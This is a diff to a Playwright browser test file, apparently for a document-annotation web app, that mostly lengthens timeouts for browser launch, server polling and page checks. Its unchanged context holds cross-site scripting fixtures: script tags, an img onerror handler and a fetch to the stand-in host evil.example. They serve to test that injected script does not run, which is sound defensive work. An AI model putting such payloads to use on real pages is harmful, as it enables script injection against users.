@@ -35,6 +35,10 @@ pytestmark = [
     pytest.mark.skipif(BROWSER is None, reason="no chromium or google-chrome on PATH"),
 ]
 
+#: Nothing is as slow as this, however busy the computer is (in milliseconds).
+PATIENCE = 120_000
+sync_api.expect.set_options(timeout=PATIENCE)
+
 TEXT = "The lamp of the lighthouse.\n\n<b>Bold</b> & <script>document.title = 'ran'</script>"
 HTML = """<h1>A lamp</h1><script>top.document.title = 'ran'; fetch('http://evil.example/')</script>
 <img src="http://evil.example/x.png" onerror="top.document.title = 'ran'" alt="a tower">
@@ -49,7 +53,9 @@ HTML = """<h1>A lamp</h1><script>top.document.title = 'ran'; fetch('http://evil.
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Any]:
     with sync_api.sync_playwright() as playwright:
-        made = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
+        made = playwright.chromium.launch(
+            executable_path=BROWSER, args=["--no-sandbox"], timeout=PATIENCE
+        )
         yield made
         made.close()
 
@@ -80,7 +86,7 @@ class Server:
         """Until it answers."""
         for _ in range(200):
             try:
-                connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
+                connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
                 connection.request("GET", "/")
                 connection.getresponse()
             except OSError:
@@ -90,7 +96,7 @@ class Server:
 
     def kill(self, how: signal.Signals = signal.SIGKILL) -> tuple[int, str]:
         self.process.send_signal(how)
-        said = self.process.communicate(timeout=20)[1]
+        said = self.process.communicate(timeout=60)[1]
         return self.process.returncode, said
 
     def judged(self, assessor: str = "ann") -> dict[str, int]:
@@ -144,7 +150,9 @@ def serve(tmp_path: Path) -> Iterator[Serve]:
 
 def opened(browser: Any, link: str, **options: Any) -> Any:
     """A page that has opened a link in a browser of its own."""
-    page = browser.new_context(**options).new_page()
+    context = browser.new_context(**options)
+    context.set_default_timeout(PATIENCE)
+    page = context.new_page()
     page.goto(link)
     page.locator(".document").first.wait_for()
     return page
@@ -165,7 +173,7 @@ def press(page: Any, *keys: str) -> list[str]:
 
 
 def saved(page: Any, text: str = "Saved") -> None:
-    sync_api.expect(page.locator("#saved-text")).to_have_text(text, timeout=15_000)
+    sync_api.expect(page.locator("#saved-text")).to_have_text(text)
 
 
 # ----------------------------------------------------------------------------------------- judging
